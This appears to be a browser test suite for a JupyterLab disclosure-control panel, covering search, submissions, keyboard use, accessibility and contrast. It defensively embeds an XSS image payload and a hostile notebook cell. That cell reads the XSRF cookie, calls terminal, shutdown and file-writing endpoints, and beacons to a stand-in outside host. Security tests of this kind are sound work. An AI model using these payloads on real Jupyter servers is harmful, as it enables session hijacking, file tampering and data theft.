"""The panel in a real browser, on a real Lab: data, outputs and requests, by mouse and keyboard, in two languages."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import uuid
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from disclosure.exchange.camp import CampFile
from disclosure.exchange.submission import Submission, submission_from_bytes
from tests.workspace.lab import browser as browsers
from tests.workspace.lab.accessible import barriers
from tests.workspace.lab.browser import opened
from tests.workspace.lab.planned import PlannedLab
from tests.workspace.lab.session import Lab
from tests.workspace.small_camp import TEAM, make_camp, notebook, put

SAFE_AND_UNSAFE = """\
import disclosure as sdc
homes = sdc.data("HOMES").to_pandas()
some = homes[homes["person"] < "000000030"]
few = homes[(homes["wijk"] != "28") | (homes["person"] < "000000008")]
sdc.basket().add(
    sdc.table(some, rows=["wijk"], unit="person"), name="homes-by-wijk", title="Homes", population="Everyone"
)
sdc.basket().add(
    sdc.table(few, rows=["wijk"], unit="person"), name="few-by-wijk", title="<img src=x onerror=document.title=1>"
)
"""
expect.set_options(timeout=browsers.SECONDS)

EXPECTED = {
    "en-GB": {
        "tabs": ["Data", "Outputs", "Requests"], "search": "Search data sets and columns", "unsafe": "Unsafe",
        "insert": "Insert code that reads HOMES", "remedies": "Remedies", "lacks": "A submission still lacks",
        "found": "1 data set, 1 column", "kind": "category",
    },
    "nl-NL": {
        "tabs": ["Data", "Uitvoer", "Aanvragen"], "search": "Zoek databestanden en kolommen", "unsafe": "Onveilig",
        "insert": "Voeg code in die HOMES leest", "remedies": "Oplossingen", "lacks": "Voor indiening ontbreekt nog",
        "found": "1 databestand, 1 kolom", "kind": "categorie",
    },
}  # fmt: skip


@pytest.fixture(scope="module")
def camp(tmp_path_factory: pytest.TempPathFactory) -> CampFile:
    return make_camp(tmp_path_factory.mktemp("panel"))


@pytest.fixture(scope="module")
def lab(camp: CampFile) -> Iterator[Lab]:
    # Each test leaves the kernel of its notebook running.
    with PlannedLab(camp, TEAM, most_kernels=20) as started:
        yield started


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsers.started() as found:
        yield found


def panel_of(page: Page, tab: int) -> None:
    page.locator(".datakamp [role=tab]").nth(tab).click()


def run_first_cell(page: Page) -> None:
    page.locator(".jp-Notebook .cm-content").first.click()
    page.keyboard.press("Control+Enter")


@pytest.mark.parametrize("locale", EXPECTED)
def test_a_data_set_is_found_and_its_code_inserted(browser: Browser, lab: Lab, camp: CampFile, locale: str) -> None:
    said = EXPECTED[locale]
    put(camp, f"find-{locale}.ipynb", notebook(""))
    asked: list[str] = []
    with opened(browser, lab, f"find-{locale}.ipynb", locale=locale) as page:
        page.on("request", lambda request: asked.append(request.url))
        expect(page.locator(".datakamp")).to_have_attribute("lang", locale[:2])
        assert page.locator(".datakamp [role=tab]").all_inner_texts() == said["tabs"]
        search = page.get_by_role("searchbox", name=str(said["search"]))
        expect(page.locator(".datakamp-count")).to_have_text(str(said["found"]))
        search.fill("nothing like it")
        expect(page.locator(".datakamp-card")).to_have_count(0)
        search.fill("WIJK")
        expect(page.locator(".datakamp-tags")).to_have_text(str(said["kind"]))
        page.get_by_role("button", name=str(said["insert"])).click()
        expect(page.locator(".jp-Notebook .cm-content").first).to_contain_text('homes = sdc.data("HOMES")')
        expect(page.locator(".datakamp-told")).to_contain_text("HOMES")
    assert all(url.startswith((lab.address, "data:", "blob:")) for url in asked)


@pytest.mark.parametrize("locale", EXPECTED)
def test_the_basket_is_told_in_words_with_what_is_missing(
    browser: Browser, lab: Lab, camp: CampFile, locale: str
) -> None:
    said = EXPECTED[locale]
    put(camp, f"basket-{locale}.ipynb", notebook(SAFE_AND_UNSAFE))
    with opened(browser, lab, f"basket-{locale}.ipynb", locale=locale) as page:
        panel_of(page, 1)
        run_first_cell(page)
        # It looks again by itself when a cell has run.
        unsafe = page.locator(".datakamp-card[data-status=unsafe]")
        expect(unsafe.locator(".datakamp-verdict")).to_contain_text(str(said["unsafe"]))
        expect(unsafe.get_by_role("heading", name=str(said["remedies"]))).to_be_visible()
        expect(page.locator(".datakamp-card[data-status=safe]")).to_have_count(1)
        expect(page.locator(".datakamp-lacks")).to_contain_text(str(said["lacks"]))
        # What a title holds is text, whatever it looks like.
        expect(unsafe).to_contain_text("<img src=x")
        assert page.locator(".datakamp img").count() == 0


def test_a_remedy_is_applied_by_a_click_and_the_notebook_says_so(browser: Browser, lab: Lab, camp: CampFile) -> None:
    put(camp, "repair.ipynb", notebook(SAFE_AND_UNSAFE))
    with opened(browser, lab, "repair.ipynb") as page:
        panel_of(page, 1)
        run_first_cell(page)
        page.locator(".datakamp-remedies button").first.click()
        expect(page.locator(".datakamp-card[data-status=safe]")).to_have_count(2)
        expect(page.locator(".jp-Notebook .cm-content").last).to_contain_text('sdc.basket().apply("few-by-wijk", 0)')
        page.get_by_role("button", name="Take homes-by-wijk out of the basket").click()
        expect(page.locator("#datakamp-panel-outputs .datakamp-card")).to_have_count(1)
        expect(page.locator(".jp-Notebook .cm-content").last).to_contain_text('sdc.basket().remove("homes-by-wijk")')


def test_a_basket_is_handed_in_returned_and_answered(browser: Browser, lab: Lab, camp: CampFile) -> None:
    put(camp, "submit.ipynb", notebook(SAFE_AND_UNSAFE.replace("<img src=x onerror=document.title=1>", "Few homes")))
    before = {path.name for path in (camp.workspace(TEAM) / "requests").glob("[0-9]*")}
    with opened(browser, lab, "submit.ipynb") as page:
        panel_of(page, 1)
        run_first_cell(page)
        page.get_by_role("button", name="Take few-by-wijk out of the basket").click()
        form = page.get_by_role("form", name="Submission")
        # At once: what is missing is told, and goes on being told when the cell has run.
        form.get_by_role("button", name="Submit").click()
        expect(page.locator("#datakamp-panel-outputs .datakamp-card")).to_have_count(1)
        expect(page.locator(".datakamp-told")).to_have_text("Fill in title, purpose and code.")
        expect(form.get_by_label("Title")).to_be_focused()
        form.get_by_label("Title").fill("Homes")
        form.get_by_label("Purpose").fill("To see how many there are.")
        expect(form.get_by_label("Code")).to_have_value("submit.ipynb")
        form.get_by_role("button", name="Submit").click()
        expect(form.get_by_role("listitem").nth(1)).to_contain_text("done")
        (number,) = {path.name for path in (camp.workspace(TEAM) / "requests").glob("[0-9]*")} - before
        assert submitted(camp, int(number)).title == "Homes"
        # The notebook was saved first, with the cell that made the basket what it is.
        assert "few-by-wijk" in (camp.workspace(TEAM) / "submit.ipynb").read_text().split("remove", 1)[1]

        returned(camp, int(number))
        panel_of(page, 2)
        request = page.locator(".datakamp-card[data-state=returned]")
        expect(request).not_to_contain_text("Already handed in")
        expect(request).to_contain_text("returned with questions")
        expect(request).to_contain_text("Which year is this?")
        expect(request).to_contain_text("Name the <b>population</b>.")
        assert request.locator("b").count() == 0
        revise = request.get_by_role("button", name=f"Answer with the basket: request {number}")
        revise.click()
        # A question without an answer is told, and its field has the focus.
        expect(page.locator(".datakamp-told")).to_have_text("Question 7 has no answer yet.")
        expect(request.get_by_label("Answer to question 7")).to_be_focused()
        page.keyboard.type("2023.")
        page.get_by_role("button", name="Look again").click()
        expect(page.locator(".datakamp-told")).to_have_text("")
        # What was typed stays when the tab is shown anew.
        expect(request.get_by_label("Answer to question 7")).to_have_value("2023.")
        request.get_by_label("Answer to question 9").fill("Everyone in the register.")
        expect(request.get_by_label("Answer to question 8")).to_have_count(0)
        revise.click()
        expect(form.get_by_label("Purpose")).to_be_focused()
        expect(form.get_by_label("Purpose")).to_have_value("To see how many there are.")
        expect(form).to_contain_text(f"The basket becomes the next revision of request {number}")
        form.get_by_role("button", name="Submit").click()
        expect(page.locator(".datakamp-told")).to_contain_text(f"Request {int(number) + 1} is written.")
        again = submitted(camp, int(number) + 1)
        assert (again.revises, again.answers) == (int(number), {7: "2023.", 9: "Everyone in the register."})

        panel_of(page, 2)
        expect(page.locator("#datakamp-panel-requests .datakamp-card").first).to_contain_text(
            f"Hands request {number} in again."
        )
        expect(request).to_contain_text(f"Already handed in again, as request {int(number) + 1}.")
        request.get_by_role("button", name=f"Answer with the same outputs: request {number}").press("Enter")
        expect(page.locator(".datakamp-told")).to_contain_text(f"Request {int(number) + 2} is written.")
        same = submitted(camp, int(number) + 2)
        first = submitted(camp, int(number))
        assert (same.revises, same.outputs, same.title) == (int(number), first.outputs, first.title)
        assert same.answers == again.answers


def submitted(camp: CampFile, number: int) -> Submission:
    return submission_from_bytes((camp.workspace(TEAM) / "requests" / str(number) / "submission.json").read_bytes())


def returned(camp: CampFile, number: int) -> None:
    """Tell in the inbox that a request was returned with three questions, of which one is answered."""
    phrase = {"en": "Name the <b>population</b>.", "nl": "Noem de <b>populatie</b>."}
    questions = [
        {"id": 7, "output": "homes-by-wijk", "phrase": None, "body": "Which year is this?", "answered": False},
        {"id": 8, "output": "homes-by-wijk", "phrase": None, "body": "Why?", "answered": True},
        {"id": 9, "output": "", "phrase": phrase, "body": "", "answered": False},
    ]
    told = {"version": 2, "number": number, "state": "returned", "reason": "", "revision": 1, "questions": questions}
    (camp.inbox(TEAM) / f"{number}.json").write_text(json.dumps(told))


def test_the_panel_works_by_keyboard_alone(browser: Browser, lab: Lab, camp: CampFile) -> None:
    put(camp, "keys.ipynb", notebook(SAFE_AND_UNSAFE))
    with opened(browser, lab, "keys.ipynb") as page:
        tabs = page.locator(".datakamp [role=tab]")
        run_first_cell(page)
        # Whoever works by keyboard goes to the panel when the cell has run; what Lab does before may take the focus.
        expect(page.locator(".jp-InputPrompt").first).to_have_text("[1]:")
        tabs.first.focus()
        page.keyboard.press("ArrowLeft")
        expect(tabs.last).to_be_focused()
        page.keyboard.press("ArrowLeft")
        expect(tabs.nth(1)).to_be_focused()
        expect(tabs.nth(1)).to_have_attribute("aria-selected", "true")
        shown = page.locator("#datakamp-panel-outputs")
        expect(shown).to_have_attribute("aria-labelledby", "datakamp-tab-outputs")
        button = shown.locator(".datakamp-remedies button").first
        button.wait_for()
        for _ in range(12):
            page.keyboard.press("Tab")
            if button.evaluate("node => node === document.activeElement"):
                break
        expect(button).to_be_focused()
        page.keyboard.press("Enter")
        expect(page.locator(".datakamp-card[data-status=safe]")).to_have_count(2)
        # The button is gone; whoever pressed it goes on in the panel.
        expect(page.locator(".datakamp :focus")).to_have_count(1)
        expect(page.locator(".datakamp-told")).to_contain_text("few-by-wijk")


def test_without_a_hub_there_is_nothing_to_log_out_of(browser: Browser, lab: Lab, camp: CampFile) -> None:
    put(camp, "menu.ipynb", notebook("1"))
    with opened(browser, lab, "menu.ipynb") as page:
        page.locator(".lm-MenuBar-item", has_text="File").first.click()
        labels = page.locator(".lm-Menu-item:not(.lm-mod-hidden) .lm-Menu-itemLabel").all_inner_texts()
        assert "Save Notebook" in labels
        assert not {"Log Out", "Your Teams"} & {one for one in labels if one}


def test_every_control_has_a_name_and_every_message_is_spoken(browser: Browser, lab: Lab, camp: CampFile) -> None:
    put(camp, "names.ipynb", notebook(SAFE_AND_UNSAFE))
    with opened(browser, lab, "names.ipynb") as page:
        panel_of(page, 1)
        run_first_cell(page)
        page.locator("#datakamp-panel-outputs .datakamp-card").first.wait_for()
        for tab in (1, 2, 0, 1):
            panel_of(page, tab)
            assert barriers(page, within=".datakamp") == []
        unnamed = page.locator(".datakamp").evaluate(
            """panel => [...panel.querySelectorAll('button, input, textarea')].filter(one =>
                !(one.getAttribute('aria-label') || one.textContent.trim() || one.labels?.length)).length"""
        )
        assert unnamed == 0
        names = page.locator(".datakamp button[aria-label]").evaluate_all(
            "all => all.map(one => one.getAttribute('aria-label'))"
        )
        assert len(set(names)) == len(names), "two buttons cannot be told apart by their names"
        expect(page.locator(".datakamp-told")).to_have_attribute("aria-live", "polite")


# What stands there is measured as it is painted: colours and what lies behind them, with all that is transparent.
CONTRASTS = """panel => {
  const read = text => {
    const [r, g, b, a = 1] = text.match(/[\\d.]+/g).map(Number);
    return [r, g, b, a];
  };
  const over = ([r, g, b, a], [x, y, z]) => [r * a + x * (1 - a), g * a + y * (1 - a), b * a + z * (1 - a), 1];
  const behind = one => {
    const layers = [];
    for (let at = one; at; at = at.parentElement) {
      layers.push(read(getComputedStyle(at).backgroundColor));
    }
    return layers.reverse().reduce((below, layer) => over(layer, below), [255, 255, 255, 1]);
  };
  const light = colour => {
    const [r, g, b] = colour.slice(0, 3).map(one => one / 255)
      .map(one => (one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const contrast = (colour, ground) => {
    const [high, low] = [light(over(read(colour), ground)), light(ground)].sort((one, other) => other - one);
    return (high + 0.05) / (low + 0.05);
  };
  const shown = one => one.checkVisibility() && !one.disabled;
  const opaque = one => {
    for (let at = one; at; at = at.parentElement) {
      if (getComputedStyle(at).opacity !== '1') return false;
    }
    return true;
  };
  const found = [];
  for (const one of [...panel.querySelectorAll('*')].filter(shown)) {
    const style = getComputedStyle(one);
    const told = [...one.childNodes].filter(node => node.nodeType === 3).map(node => node.data.trim()).join(' ').trim();
    const field = one.matches('input, textarea');
    if (told || field) found.push(['text', told || one.id, opaque(one) ? contrast(style.color, behind(one)) : 0]);
    if (one.matches(':focus-visible')) found.push(['focus', told, contrast(style.outlineColor, behind(one))]);
    if (field) found.push(['edge', one.id, contrast(style.borderTopColor, behind(one.parentElement))]);
  }
  return found;
}"""
# The ratios of WCAG 2.2, level AA: 1.4.3 for text, 1.4.11 for the edge of a field and the ring of what has the focus.
LEAST = {"text": 4.5, "edge": 3.0, "focus": 3.0}
THEMES = ("JupyterLab Light", "JupyterLab Dark", "JupyterLab Dark High Contrast")


def contrasts(page: Page) -> list[tuple[str, str, float]]:
    return [(str(kind), str(told), float(ratio)) for kind, told, ratio in page.locator(".datakamp").evaluate(CONTRASTS)]


@pytest.mark.parametrize("theme", THEMES)
def test_everything_in_the_panel_can_be_read_in_every_theme(
    browser: Browser, lab: Lab, camp: CampFile, theme: str
) -> None:
    for one in json.loads(lab.ask("/api/kernels").body):  # those of other tests: so many run and no more
        lab.ask(f"/api/kernels/{one['id']}", "DELETE")
    chosen = "/lab/api/settings/@jupyterlab/apputils-extension:themes"
    file = f"{theme.replace(' ', '-')}.ipynb"
    put(camp, file, notebook(SAFE_AND_UNSAFE))
    assert lab.ask(chosen, "PUT", {"raw": json.dumps({"theme": theme})}).code == 204
    try:
        with opened(browser, lab, file) as page:
            expect(page.locator(f"body[data-jp-theme-name='{theme}']")).to_have_count(1)
            page.locator(".datakamp-card summary").first.click()
            found = contrasts(page)
            panel_of(page, 1)
            run_first_cell(page)
            page.locator(".datakamp-remedies button").first.wait_for()
            found += contrasts(page)
            page.locator(".datakamp [role=tab]").nth(1).focus()
            page.keyboard.press("ArrowRight")
            # What stands there depends on the tests before: nothing was handed in, or requests with their questions.
            expect(page.locator("#datakamp-panel-requests")).to_contain_text(re.compile("handed|Request"))
            found += contrasts(page)
        told = {(kind, what) for kind, what, _ in found}
        assert {kind for kind, _ in told} == set(LEAST)
        assert {("text", "Insert code"), ("text", "Take out"), ("focus", "Requests")} <= told
        assert [one for one in found if one[2] < LEAST[one[0]]] == []
    finally:
        assert lab.ask(chosen, "PUT", {"raw": "{}"}).code == 204


def test_without_a_notebook_the_panel_says_what_to_do(browser: Browser, lab: Lab) -> None:
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.set_default_timeout(browsers.SECONDS)
        page.goto(f"{lab.address}/lab/workspaces/{uuid.uuid4().hex}?token={lab.token}")
        page.locator("li.lm-TabBar-tab[data-id=datakamp-panel]").click()
        expect(page.locator(".datakamp-told")).to_contain_text("Open a notebook")
        expect(page.get_by_role("button", name="New notebook")).to_be_visible()


def test_what_kept_the_panel_from_showing_anything_is_told_no_longer_than_it_does(browser: Browser, lab: Lab) -> None:
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.set_default_timeout(browsers.SECONDS)
        page.goto(f"{lab.address}/lab/workspaces/{uuid.uuid4().hex}?token={lab.token}")
        page.locator("li.lm-TabBar-tab[data-id=datakamp-panel]").click()
        expect(page.locator(".datakamp-told")).to_contain_text("Open a notebook")
        page.get_by_role("button", name="New notebook").click()
        page.locator(".datakamp-card").first.wait_for()
        expect(page.locator(".datakamp-told")).to_have_text("")


def test_lab_and_a_notebook_open_without_a_request_that_is_refused(browser: Browser, lab: Lab, camp: CampFile) -> None:
    # Else the log would tell of a refusal each time that somebody begins to work, and nobody would read it.
    put(camp, "quiet.ipynb", notebook("1"))
    refused: list[str] = []
    with browser.new_context(locale="en-GB") as context:
        page = context.new_page()
        page.set_default_timeout(browsers.SECONDS)
        page.on("response", lambda answer: refused.append(answer.url) if answer.status >= 400 else None)
        page.goto(f"{lab.address}/lab/workspaces/{uuid.uuid4().hex}/tree/quiet.ipynb?token={lab.token}")
        page.locator(".jp-Notebook .cm-content").first.wait_for()
        page.locator("li.lm-TabBar-tab[data-id=datakamp-panel]").click()
        page.locator(".datakamp-card").first.wait_for()
    assert refused == []


HOSTILE = """\
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.body.dataset.html = 'ran'</script><img src='OUTSIDE' onerror='document.title=1'>"))
display({"application/x-lab+json": "<script>document.body.dataset.own = 'ran'</script>"}, raw=True)
display({"text/html": "<iframe src='OUTSIDE'></iframe><form action='OUTSIDE'><input name=x></form>"}, raw=True)
display(Javascript('''
(async () => {
  const told = {}, word = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
  for (const asked of ASKED) {
    const [method, path] = asked.split(" ");
    const body = method === "GET" ? undefined : JSON.stringify({type: "file", format: "text", content: "x"});
    try {
      told[asked] = (await fetch(path, {method, body, headers: {"X-XSRFToken": word}})).status;
    } catch {
      told[asked] = 0;
    }
  }
  try { navigator.sendBeacon("OUTSIDE", "x"); new WebSocket("OUTSIDE".replace("http", "ws")); } catch {}
  document.querySelectorAll(".jp-OutputArea form").forEach((form) => { try { form.submit(); } catch {} });
  document.body.dataset.told = JSON.stringify(told);
})();
'''))
"""


def said_to(outside: socket.socket) -> bytes:
    """Return what somebody sent here; a connection that says nothing is one that a browser made ahead."""
    said = b""
    with contextlib.suppress(BlockingIOError):
        while True:
            with outside.accept()[0] as joined:
                joined.settimeout(1)
                with contextlib.suppress(TimeoutError):
                    said += joined.recv(200)
    return said


def test_what_an_output_brings_along_starts_nothing_and_reaches_nobody(
    browser: Browser, lab: Lab, camp: CampFile
) -> None:
    """Scripts of HTML and of kinds that nobody knows do not run; JavaScript runs, and may do what the page may."""
    with socket.create_server(("127.0.0.1", 0)) as outside:
        outside.setblocking(False)
        address = f"http://127.0.0.1:{outside.getsockname()[1]}/"
        refused = ["POST /api/terminals", "GET /files/x.csv", "POST /api/shutdown", "PUT /api/contents/disclosure.py",
                   "PUT /api/contents/x.html", "GET /lab/api/extensions", "GET /api/config/notebook"]  # fmt: skip
        source = HOSTILE.replace("ASKED", json.dumps([*refused, f"GET {address}"])).replace("OUTSIDE", address)
        put(camp, "hostile.ipynb", notebook(source))
        with opened(browser, lab, "hostile.ipynb") as page:
            before = page.url
            run_first_cell(page)
            page.wait_for_function("document.body.dataset.told !== undefined")
            told = json.loads(str(page.evaluate("document.body.dataset.told")))
            assert told.pop(f"GET {address}") == 0
            assert set(told) == set(refused)
            assert {asked: status for asked, status in told.items() if status not in (403, 404)} == {}
            assert page.evaluate("[document.body.dataset.html, document.body.dataset.own]") == [None, None]
            assert page.url == before
        assert said_to(outside) == b""
    assert not (lab.workspace / "disclosure.py").exists()
